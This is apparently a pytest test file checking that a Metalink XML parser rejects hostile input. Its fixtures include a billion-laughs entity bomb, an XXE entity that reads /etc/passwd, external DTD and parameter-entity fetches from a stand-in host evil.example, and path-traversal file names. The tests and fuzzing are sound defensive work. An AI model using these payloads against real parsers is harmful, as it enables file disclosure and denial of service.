"""Hostile Metalink documents: each one is a MetalinkError (exit 20) and nothing else.

XML bombs, external entities and DTDs are refused by defusedxml (docs/design.md, "Layers": the
parser is a pure core); size, depth, traversal names, huge numbers and bad digests by the parser.
"""

from __future__ import annotations

import time
import tracemalloc
from xml.sax.saxutils import escape as xml_escape
from xml.sax.saxutils import quoteattr

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.metalink.test_parse import V3, V4
from trioaria.base.errors import ExitCode, MetalinkError
from trioaria.metalink.parse import MAX_DEPTH, MAX_DOCUMENT_SIZE, Metalink, parse_metalink

NS4 = "urn:ietf:params:xml:ns:metalink"


def v4(body: str, name: str = "f.bin") -> bytes:
    return (
        f'<metalink xmlns="{NS4}"><file name={quoteattr(name)}>{body}</file></metalink>'
    ).encode()


def refused(document: bytes, words: str = "", **kwargs: int) -> MetalinkError:
    with pytest.raises(MetalinkError) as info:
        parse_metalink(document, **kwargs)  # type: ignore[arg-type]
    assert info.value.exit_code == ExitCode.METALINK_PARSE_ERROR
    assert words in str(info.value), str(info.value)
    return info.value


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="&lol9;"/></metalink>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="a"><url>&xxe;</url></file></metalink>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE metalink SYSTEM "http://evil.example/metalink.dtd">
<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="a"/></metalink>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>
<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="a"/></metalink>"""


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY]
)
def test_doctype_refused(document: bytes) -> None:
    refused(document, "document type declaration")


def test_undeclared_entity_is_malformed() -> None:
    refused(v4("<url>&xxe;</url>"), "not well-formed")


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"not xml",
        b"<metalink",
        b'<metalink xmlns="urn:ietf:params:xml:ns:metalink"><file name="a"></metalink>',
        b"\xff\xfe\x00garbage",
        b'<?xml version="1.0" encoding="no-such-codec"?><a/>',
        b'<?xml version="1.0" encoding="utf-16"?><a/>',
    ],
)
def test_malformed(document: bytes) -> None:
    refused(document)


def test_size_limit() -> None:
    refused(b" " * (MAX_DOCUMENT_SIZE + 1), "larger than")
    refused(v4("<url>http://x/</url>" * 100), "larger than", max_size=1000)


def test_depth_limit() -> None:
    deep = "<x>" * 100_000 + "</x>" * 100_000
    refused(v4(deep), f"deeper than {MAX_DEPTH}")
    refused(v4("<x><y/></x>"), "deeper than 3", max_depth=3)


@pytest.mark.parametrize(
    "name",
    ["../evil", "/etc/passwd", "a/../../b", ".", "..", "a/./b", "", "   ", "//", "x/.."],
)
def test_traversal_names(name: str) -> None:
    refused(v4("<url>http://x/</url>", name=name), "")


def test_traversal_in_v3() -> None:
    doc = b'<metalink xmlns="http://www.metalinker.org/"><files><file name="../../x"/></files></metalink>'
    refused(doc, "unsafe")


@pytest.mark.parametrize(
    "size",
    ["9" * 20, "9223372036854775808", "9" * 5000, "1e9", "0x10", "-5", "", "12 bytes"],
)
def test_huge_or_bogus_sizes(size: str) -> None:
    refused(v4(f"<size>{size}</size>"), "size")


def test_largest_size_accepted() -> None:
    assert parse_metalink(v4("<size>9223372036854775807</size>")).files[0].size == 2**63 - 1


@pytest.mark.parametrize(
    "body",
    [
        '<hash type="sha-256">' + "zz" * 32 + "</hash>",
        '<hash type="sha-256">' + "ab" * 31 + "</hash>",
        '<hash type="sha-1">' + "ab" * 21 + "</hash>",
        '<hash type="md5"></hash>',
        '<hash type="md5">' + "0x" + "ab" * 15 + "</hash>",
        '<pieces length="4" type="sha-1"><hash>nothex</hash></pieces>',
        '<pieces length="4" type="sha-1"><hash>' + "ab" * 19 + "</hash></pieces>",
    ],
)
def test_bad_hash_hex(body: str) -> None:
    refused(v4(body), "hex digits")


def test_unsupported_hash_type_ignored_not_fatal() -> None:
    f = parse_metalink(v4('<hash type="sha3-256">whatever</hash>')).files[0]
    assert f.hashes == ()


def test_hundred_thousand_urls_fast_and_small() -> None:
    urls = "".join(
        f'<url priority="{i % 999 + 1}">http://m{i}.example/f.bin</url>' for i in range(100_000)
    )
    document = v4(urls)
    started = time.perf_counter()
    doc = parse_metalink(document)
    elapsed = time.perf_counter() - started
    assert len(doc.files[0].urls) == 100_000
    assert elapsed <= 5.0, elapsed
    tracemalloc.start()
    try:
        parse_metalink(document)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak <= 200 * 1024 * 1024, peak


def _outcome(document: bytes) -> Metalink | MetalinkError:
    """The parse, or the typed error; any other exception escapes and fails the test."""
    try:
        return parse_metalink(document)
    except MetalinkError as exc:
        return exc


@given(st.binary(max_size=2000))
def test_arbitrary_bytes_only_raise_metalink_error(data: bytes) -> None:
    outcome = _outcome(data)
    assert not isinstance(outcome, MetalinkError) or outcome.exit_code == 20


@given(
    st.lists(
        st.sampled_from(
            [
                "<size>",
                "</size>",
                "<hash type='sha-1'>",
                "<hash type='md5'>",
                "</hash>",
                "<pieces length='3' type='sha-1'>",
                "<pieces length='x' type='sha1'>",
                "</pieces>",
                "<url priority='5'>",
                "<url location='de'>",
                "</url>",
                "<metaurl mediatype='torrent'>",
                "</metaurl>",
                "<signature>",
                "</signature>",
                "<publisher name='p'/>",
                "<language>",
                "</language>",
                "0",
                "9" * 30,
                "ab" * 20,
                "http://x/",
                "../",
                "&amp;",
                "<os>",
                "</os>",
            ]
        ),
        max_size=30,
    ),
    st.text(max_size=20),
)
def test_structured_fuzz_only_raises_metalink_error(parts: list[str], name: str) -> None:
    for document in (
        v4("".join(parts), name=name),
        (
            '<metalink xmlns="http://www.metalinker.org/"><files><file name='
            f"{quoteattr(name)}><verification>{''.join(parts)}</verification>"
            f"<resources><url preference='50'>{xml_escape(name)}</url></resources>"
            "</file></files></metalink>"
        ).encode(),
    ):
        doc = _outcome(document)
        if isinstance(doc, MetalinkError):
            assert doc.exit_code == 20
        else:
            assert doc.files and not doc.files[0].name.startswith("/")
            assert ".." not in doc.files[0].name.split("/")


_SPLICES = [b"<", b">", b'"', b"&", b"..", b"/", b"9" * 25, b"<hash>", b"</file>", b"\x00", b"]]>"]


@given(
    st.sampled_from([0, 1]),
    st.lists(
        st.tuples(st.integers(0, 2), st.floats(0, 1), st.integers(0, 255), st.integers(1, 20)),
        min_size=1,
        max_size=6,
    ),
)
def test_mutated_golden_documents_only_raise_metalink_error(
    which: int, edits: list[tuple[int, float, int, int]]
) -> None:
    data = bytearray((V4, V3)[which])
    for op, where, value, span in edits:
        pos = int(where * (len(data) - 1)) if data else 0
        if op == 0 and data:
            data[pos] = value
        elif op == 1:
            del data[pos : pos + span]
        else:
            data[pos:pos] = _SPLICES[value % len(_SPLICES)]
    outcome = _outcome(bytes(data))
    assert not isinstance(outcome, MetalinkError) or outcome.exit_code == 20
